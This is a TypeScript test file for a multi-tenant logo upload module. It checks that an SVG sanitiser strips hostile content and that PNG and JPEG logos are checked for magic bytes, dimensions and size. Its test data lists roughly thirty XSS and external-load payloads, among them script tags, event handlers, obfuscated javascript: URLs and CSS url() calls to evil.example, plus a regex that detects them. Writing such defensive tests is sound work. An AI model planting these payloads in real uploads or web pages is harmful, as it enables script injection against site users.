import { deflateSync } from 'node:zlib';
import { describe, expect, it } from 'vitest';
import { cleanSvg } from '../../src/tenancy/clean-svg.ts';
import { readLogo } from '../../src/tenancy/logo-image.ts';

const svg = (inside: string, attributes = '') =>
  `<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" ${attributes}>${inside}</svg>`;
const read = async (text: string) => (await readLogo('image/svg+xml', Buffer.from(text))).bytes.toString();

/** Parts of which each can run, or load something, in some browser. */
const hostile = [
  '<script>alert(1)</script>',
  '<script xlink:href="https://evil.example/x.js"/>',
  '<g onload="alert(1)"/>',
  '<g ONLOAD="alert(1)" onclick="alert(1)"/>',
  '<a href="javascript:alert(1)"><text>x</text></a>',
  '<a xlink:href="java&#x09;script:alert(1)"><text>x</text></a>',
  '<image href="https://evil.example/pixel.png"/>',
  '<image xlink:href="data:image/svg+xml;base64,PHN2Zy8+"/>',
  '<use href="https://evil.example/x.svg#a"/>',
  '<use href="data:image/svg+xml,&lt;svg id=%27x%27 xmlns=%27http://www.w3.org/2000/svg%27/&gt;#x"/>',
  '<foreignObject><iframe src="https://evil.example"></iframe></foreignObject>',
  '<foreignObject><body xmlns="http://www.w3.org/1999/xhtml" onload="alert(1)"/></foreignObject>',
  '<animate attributeName="href" values="javascript:alert(1)"/>',
  '<set attributeName="onmouseover" to="alert(1)"/>',
  '<style>@import url(https://evil.example/x.css);</style>',
  '<style>rect { fill: url("https://evil.example/x") }</style>',
  '<style>rect { background: u\\72l(https://evil.example/x) }</style>',
  '<style><img src=x onerror="alert(1)"></style>',
  '<rect style="fill:url(https://evil.example/x#a)"/>',
  '<rect fill="url( https://evil.example/x#a )"/>',
  '<rect filter="URL(\'//evil.example/x#a\')"/>',
  '<feImage href="https://evil.example/x"/>',
  '<![CDATA[</svg><script>alert(1)</script>]]>',
  '<title><script>alert(1)</script></title>',
  '<desc><p title="</desc><script>alert(1)</script>"></p></desc>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  '<?xml-stylesheet href="https://evil.example/x.css"?>',
  '<iframe src="https://evil.example"/>',
  '<embed src="https://evil.example"/>',
  '<handler type="application/ecmascript">alert(1)</handler>',
];

const dangerous =
  /<script|\son\w+\s*=|javascript:|evil\.example|<(foreignObject|iframe|image|use|animate|set|embed|handler|a)[\s>/]|@import|<\?/i;

describe('an SVG logo', () => {
  it('keeps what a picture is made of', async () => {
    const clean = await read(`<?xml version="1.0" encoding="UTF-8"?>
      <!-- drawn by hand --><!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" "http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd">
      ${svg('<style>.a{fill:#f00}</style><linearGradient id="g"><stop offset="0"/></linearGradient><path class="a" d="M0 0" fill="url(#g)"/>', 'viewBox="0 0 10 10"')}`);
    expect(clean).toMatch(/^<svg xmlns="http:\/\/www.w3.org\/2000\/svg"/);
    for (const part of [
      'viewBox="0 0 10 10"',
      '.a{fill:#f00}',
      '<linearGradient id="g">',
      'fill="url(#g)"',
      'd="M0 0"',
    ]) {
      expect(clean).toContain(part);
    }
  });

  it.each(hostile)('loses what runs, or loads something from elsewhere: %s', (part) => {
    const clean = cleanSvg(svg(`<circle r="3"/>${part}`)) ?? '';
    expect(clean).toContain('<circle r="3"/>');
    expect(dangerous.exec(clean)?.[0]).toBeUndefined();
  });

  it('loses what runs by its own attributes', () => {
    expect(cleanSvg(svg('<circle r="3"/>', 'onload="alert(1)" onerror="x"'))).toBe(
      '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink"><circle r="3"/></svg>',
    );
  });

  it.each([
    ['a page', '<html><svg><g/></svg></html>'],
    ['text', 'hello'],
    ['nothing but a script', svg('<script>alert(1)</script>')],
    ['a document with entities of its own', `<!DOCTYPE svg [<!ENTITY a "aaaa">]>${svg('<text>&a;</text>')}`],
  ])('is not %s', async (_, text) => {
    await expect(read(text)).rejects.toMatchObject({ name: 'InvalidPayloadError' });
  });

  it('is not something that takes a parser minutes', async () => {
    const deep = svg('<g>'.repeat(30_000) + '</g>'.repeat(30_000));
    const started = performance.now();
    await expect(read(deep)).rejects.toThrow('too complex');
    expect(performance.now() - started).toBeLessThan(15_000);
  }, 30_000);

  it('is UTF-8', async () => {
    const bytes = Buffer.concat([Buffer.from('<svg><text>'), Buffer.from([0xff, 0xfe]), Buffer.from('</text></svg>')]);
    await expect(readLogo('image/svg+xml', bytes)).rejects.toThrow('UTF-8');
  });
});

function chunk(type: string, data: Buffer): Buffer {
  const length = Buffer.alloc(4);
  length.writeUInt32BE(data.length);
  return Buffer.concat([length, Buffer.from(type, 'latin1'), data, Buffer.alloc(4)]);
}

function png(width: number, height: number): Buffer {
  const header = Buffer.alloc(13);
  header.writeUInt32BE(width, 0);
  header.writeUInt32BE(height, 4);
  header.set([8, 0, 0, 0, 0], 8);
  const signature = Buffer.from('\x89PNG\r\n\x1a\n', 'latin1');
  return Buffer.concat([
    signature,
    chunk('IHDR', header),
    chunk('IDAT', deflateSync(Buffer.alloc(10))),
    chunk('IEND', Buffer.alloc(0)),
  ]);
}

/** A start, an application's segment, and the start of the frame. */
function jpeg(width: number, height: number): Buffer {
  const frame = Buffer.from([0xff, 0xc2, 0, 11, 8, 0, 0, 0, 0, 1, 1, 0x11, 0]);
  frame.writeUInt16BE(height, 5);
  frame.writeUInt16BE(width, 7);
  return Buffer.concat([Buffer.from([0xff, 0xd8, 0xff, 0xe0, 0, 4, 1, 2]), frame]);
}

describe('a logo of pixels', () => {
  it('is known by its first bytes, whatever it is said to be', async () => {
    expect(await readLogo('image/png', png(64, 32))).toMatchObject({ size: { width: 64, height: 32 } });
    expect(await readLogo('image/jpeg', jpeg(640, 320))).toMatchObject({ size: { width: 640, height: 320 } });
    await expect(readLogo('image/png', jpeg(64, 64))).rejects.toThrow('is not what Content-Type says, image/png');
    await expect(readLogo('image/jpeg', png(64, 64))).rejects.toThrow('image/jpeg');
    await expect(readLogo('image/png', Buffer.from(svg('<g/>')))).rejects.toThrow('image/png');
    await expect(readLogo('image/svg+xml', png(64, 64))).rejects.toThrow('image/svg+xml');
    for (const type of ['image/png', 'image/jpeg', 'image/svg+xml'] as const) {
      await expect(readLogo(type, Buffer.alloc(0))).rejects.toMatchObject({ name: 'InvalidPayloadError' });
    }
  });

  it('has sides of 16 to 2,048 pixels, and at most 256 KB', async () => {
    expect(await readLogo('image/png', png(16, 2_048))).toMatchObject({ type: 'image/png' });
    await expect(readLogo('image/png', png(15, 64))).rejects.toThrow('15 × 64 pixels');
    await expect(readLogo('image/jpeg', jpeg(64, 2_049))).rejects.toThrow('64 × 2049 pixels');
    await expect(readLogo('image/png', Buffer.concat([png(64, 64), Buffer.alloc(256 * 1024)]))).rejects.toThrow(
      '256 KB',
    );
  });
});
